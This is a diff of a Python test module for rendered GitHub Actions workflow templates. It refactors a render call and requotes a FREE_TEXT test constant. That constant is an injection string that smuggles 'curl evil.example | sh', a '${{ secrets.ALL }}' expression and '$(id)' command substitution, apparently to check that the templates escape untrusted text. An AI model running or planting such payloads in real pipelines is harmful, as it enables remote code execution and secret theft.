@@ -10,12 +10,12 @@ import yaml
 
 from tests.templates.real_tools import workflows
 from tests.templates.real_tools.toolbox import run, tool
-from tests.templates.rendering import REPOSITORY, VARIATIONS, render, sample_policy
+from tests.templates.rendering import REPOSITORY, VARIATIONS, render, render_under, sample_policy
 
 pytestmark = pytest.mark.tools
 
 COMMIT = re.compile(r"[0-9a-f]{40}")
-FREE_TEXT = 'x"; curl evil.example | sh #\' ${{ secrets.ALL }} $(id) `id`'
+FREE_TEXT = "x\"; curl evil.example | sh #' ${{ secrets.ALL }} $(id) `id`"
 
 
 @pytest.fixture(scope="module")
@@ -124,7 +124,7 @@ def test_environments_are_deployed_in_the_policy_s_order(tmp_path: Path) -> None
     policy = sample_policy()
     policy["environments"] = ["test", "live"]
 
-    project = render("online-serving", tmp_path, policy)
+    project = render_under(policy, "online-serving", tmp_path)
 
     jobs = workflows.read(project / ".github/workflows/deploy.yml")["jobs"]
     assert list(jobs) == ["policy", "image", "deploy-test", "deploy-live"]
